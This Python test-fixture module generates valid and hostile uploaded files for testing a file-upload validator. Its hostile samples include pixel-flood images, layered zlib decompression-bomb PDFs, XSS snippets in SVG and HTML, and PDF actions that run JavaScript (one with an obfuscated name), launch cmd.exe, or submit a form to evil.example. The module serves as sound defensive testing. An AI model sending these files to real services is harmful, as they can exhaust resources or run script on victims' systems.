"""Files that somebody might send: good ones, and every nasty one of reliability.md §5.10, made when they are needed."""

import os
import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO
from typing import Any

import pikepdf
from PIL import Image
from PIL.ExifTags import GPS, IFD, Base
from PIL.PngImagePlugin import PngInfo

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET = "Secret-Street-44"
MILLION = 1_000_000


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), mode: str = "RGB", **how: Any) -> bytes:
    """A picture whose left half is red."""
    image = Image.new(mode, size)
    if mode == "RGB":
        image.paste((200, 30, 30), (0, 0, size[0] // 2, size[1]))
    written = BytesIO()
    image.save(written, kind, **how)
    return written.getvalue()


def large_photo() -> bytes:
    """A photo of 48 megapixels and 8 to 14 MB, like a phone's: full of detail, which repeats."""
    detail = Image.frombytes("RGB", (500, 500), os.urandom(750_000)).resize((1000, 1000))
    image = Image.new("RGB", (8000, 6000))
    for number in range(48):
        image.paste(detail, (number % 8 * 1000, number // 8 * 1000))
    written = BytesIO()
    image.save(written, "JPEG", quality=40)
    return written.getvalue()


def told_where(kind: str = "JPEG") -> bytes:
    """A picture with EXIF: position, device, and a rotation."""
    exif = Image.Exif()
    exif[Base.Orientation] = 6
    exif[Base.ImageDescription] = SECRET
    exif[Base.Make] = SECRET + "\x00<script>alert(1)</script>"
    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitude] = (34.0, 0.0, 54.0)
    exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitudeRef] = "N"
    more: dict[str, Any] = {"exif": exif.tobytes(), "icc_profile": SECRET.encode()}
    if kind == "PNG":
        more["pnginfo"] = PngInfo()
        more["pnginfo"].add_text("Comment", SECRET)
    if kind == "JPEG":
        more["comment"] = SECRET.encode()
    return picture(kind, **more)


def flood(width: int = 60_000, height: int = 60_000) -> bytes:
    """A PNG of a few bytes that claims 3.6 billion pixels."""
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return start + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def claiming(width: int, height: int) -> bytes:
    """A JPEG of a few bytes that claims that many pixels."""
    small = picture(size=(16, 16))
    at = small.index(b"\xff\xc0") + 5
    return small[:at] + struct.pack("!HH", height, width) + small[at + 4 :]


def chunk(name: bytes, body: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack("!I", len(body)) + name + body + struct.pack("!I", zlib.crc32(name + body))


def zipped(name: str = "a.txt") -> bytes:
    """A ZIP archive."""
    written = BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr(name, "hello")
    return written.getvalue()


def pdf(**root: Any) -> bytes:
    """A PDF of one empty page, with more in its catalogue."""
    document = pikepdf.new()
    document.add_blank_page()
    for name, value in root.items():
        document.Root[f"/{name}"] = document.make_indirect(pikepdf.Object.parse(value))
    written = BytesIO()
    document.save(written, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return written.getvalue()


def heavy_pdf(size: int) -> bytes:
    """A PDF with that many incompressible bytes."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Weight = document.make_stream(os.urandom(size))
    written = BytesIO()
    document.save(written, compress_streams=False)
    return written.getvalue()


def locked_pdf() -> bytes:
    """A PDF that opens with a password only."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        document.save(written, encryption=pikepdf.Encryption(owner="owner", user="user"))
    return written.getvalue()


def pdf_locked_by_its_owner() -> bytes:
    """An encrypted PDF that opens without a password."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        document.save(written, encryption=pikepdf.Encryption(owner="owner", user=""))
    return written.getvalue()


def packed_pdf(data: bytes, *filters: str) -> bytes:
    """A PDF with a stream of these bytes and filters."""
    document = pikepdf.new()
    document.add_blank_page()
    stream = document.make_stream(data)
    stream.Filter = pikepdf.Array([pikepdf.Name(f"/{name}") for name in filters])
    document.Root.Weight = stream
    written = BytesIO()
    document.save(written, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return written.getvalue()


@cache
def zeros(size: int, times: int = 1) -> bytes:
    """That many zeros, compressed several times into almost nothing; a multiple of a million."""
    return zlib.compress(zeros(size, times - 1), 1) if times > 1 else compressed_zeros(size // MILLION)


def compressed_zeros(millions: int) -> bytes:
    """So many million zeros, compressed: one compressed million after the other, because 160 take half a second."""
    deflate = zlib.compressobj(1, zlib.DEFLATED, -zlib.MAX_WBITS)
    million = deflate.compress(bytes(MILLION)) + deflate.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack("!HH", millions * MILLION % 65521, 1)  # Adler-32 of zeros
    return b"\x78\x01" + million * millions + b"\x03\x00" + checksum


def pdf_of_pages_within_pages(levels: int) -> bytes:
    """A PDF whose tree of pages is that deep; no library would write one."""
    pages = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (3 + level) for level in range(levels)]
    return pdf_by_hand(b"<</Type/Catalog/Pages 2 0 R>>", *pages, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def wide_pdf(count: int) -> bytes:
    """A PDF with a list of that many empty dictionaries, written by hand because a library takes a second."""
    pages = (b"<</Type/Pages/Count 1/Kids[3 0 R]>>", b"<</Type/Page/MediaBox[0 0 9 9]/Parent 2 0 R>>")
    return pdf_by_hand(b"<</Type/Catalog/Pages 2 0 R/Wide 4 0 R>>", *pages, b"[" + b"<<>>" * count + b"]")


def pdf_by_hand(*objects: bytes) -> bytes:
    """A PDF of these objects; the first is the catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, one in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))
    return body + table + rows + end


def pdf_with_a_file() -> bytes:
    """A PDF with an embedded file."""
    written = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as document:
        document.attachments["run.exe"] = b"MZ"
        document.save(written)
    return written.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(document.domain)</script>"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

GOOD: dict[str, tuple[bytes, str]] = {
    "jpeg": (picture(), "image/jpeg"),
    "grey jpeg": (picture(mode="L"), "image/jpeg"),
    "cmyk jpeg": (picture(mode="CMYK"), "image/jpeg"),
    "png": (picture("PNG"), "image/png"),
    "png with alpha": (picture("PNG", mode="RGBA"), "image/png"),
    "png with a palette": (picture("PNG", mode="P"), "image/png"),
    "png of 16 bits": (picture("PNG", mode="I;16"), "image/png"),
    "webp": (picture("WEBP"), "image/webp"),
    "many pictures in one jpeg": (
        picture("MPO", save_all=True, append_images=[Image.new("RGB", (64, 48))]),
        "image/jpeg",
    ),
    "pdf": (pdf(), "application/pdf"),
    "pdf that opens at a page": (pdf(OpenAction=b"<< /S /GoTo /D [0 /Fit] >>"), "application/pdf"),
}
BAD: dict[str, tuple[bytes, str]] = {
    "nothing": (b"", "file-broken"),
    "text": (b"hello", "file-type"),
    "eicar": (EICAR, "file-type"),
    "svg": (SVG, "file-type"),
    "html": (HTML, "file-type"),
    "zip": (zipped(), "file-type"),
    "nested zip": (zipped("b.zip"), "file-type"),
    "gif": (picture("GIF"), "file-type"),
    "tiff": (picture("TIFF"), "file-type"),
    "program": (b"MZ" + bytes(200), "file-type"),
    "html before a jpeg": (HTML + picture(), "file-type"),
    "html before a pdf": (HTML + pdf(), "file-type"),
    "only the start of a jpeg": (b"\xff\xd8\xff", "file-broken"),
    "half a jpeg": (picture(size=(600, 400))[:2000], "file-broken"),
    "half a png": (picture("PNG", size=(600, 400))[:-40], "file-broken"),
    "half a webp": (picture("WEBP", size=(600, 400))[:200], "file-broken"),
    "jpeg's start, then a script": (b"\xff\xd8\xff\xe0" + HTML, "file-broken"),
    "flood of pixels": (flood(), "file-pixels"),
    "one row too many": (flood(8_000, 8_001), "file-pixels"),
    "flood of a jpeg's pixels": (claiming(65_000, 65_000), "file-pixels"),
    "a jpeg that holds next to nothing of what it says": (claiming(16_000, 15_000), "file-broken"),
    "half a pdf": (pdf()[:300], "file-broken"),
    "pdf's start, then a script": (b"%PDF-1.7\n" + HTML + b"\n%%EOF", "file-broken"),
    "zip after a pdf": (pdf() + zipped(), "file-broken"),
    "zip at the end of a pdf": (pdf() + zipped() + b"\nstartxref\n0\n%%EOF", "file-broken"),
    "pdf with a script": (pdf(OpenAction=JS), "file-active"),
    "pdf with a hidden name of a script": (
        pdf(OpenAction=b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
        "file-active",
    ),
    "pdf with a script deep inside": (
        pdf(Names=b"<< /A [ << /B << /AA << /O " + JS + b" >> >> >> ] >>"),
        "file-active",
    ),
    "pdf that starts a program": (pdf(OpenAction=b"<< /S /Launch /F (cmd.exe) >>"), "file-active"),
    "pdf that sends a form": (pdf(OpenAction=b"<< /S /SubmitForm /F (http://evil.example) >>"), "file-active"),
    "pdf with a form of its own": (pdf(AcroForm=b"<< /XFA (x) >>"), "file-active"),
    "pdf with a file in it": (pdf_with_a_file(), "file-active"),
    "locked pdf": (locked_pdf(), "file-locked"),
    "pdf locked by its owner": (pdf_locked_by_its_owner(), "file-locked"),
    "pdf that unpacks to 160 MB": (packed_pdf(zeros(160_000_000), "FlateDecode"), "file-heavy"),
    "pdf packed twice": (packed_pdf(zeros(160_000_000, 2), "FlateDecode", "FlateDecode"), "file-heavy"),
    "pdf with a packed photograph": (packed_pdf(zeros(160_000_000), "FlateDecode", "DCTDecode"), "file-heavy"),
    "pdf packed five times": (packed_pdf(zeros(MILLION, 5), *["FlateDecode"] * 5), "file-heavy"),
    "pdf with a stream that is none": (packed_pdf(b"x" * 500, "FlateDecode"), "file-broken"),
    "pdf with a photograph that is none": (packed_pdf(b"x" * 500, "DCTDecode"), "file-broken"),
    "pdf of lists within lists": (pdf(Deep=b"[" * 90 + b"]" * 90), "file-heavy"),
    "pdf of half a million nothings": (wide_pdf(510_000), "file-heavy"),
    "pdf of pages within pages": (pdf_of_pages_within_pages(5000), "file-broken"),
}
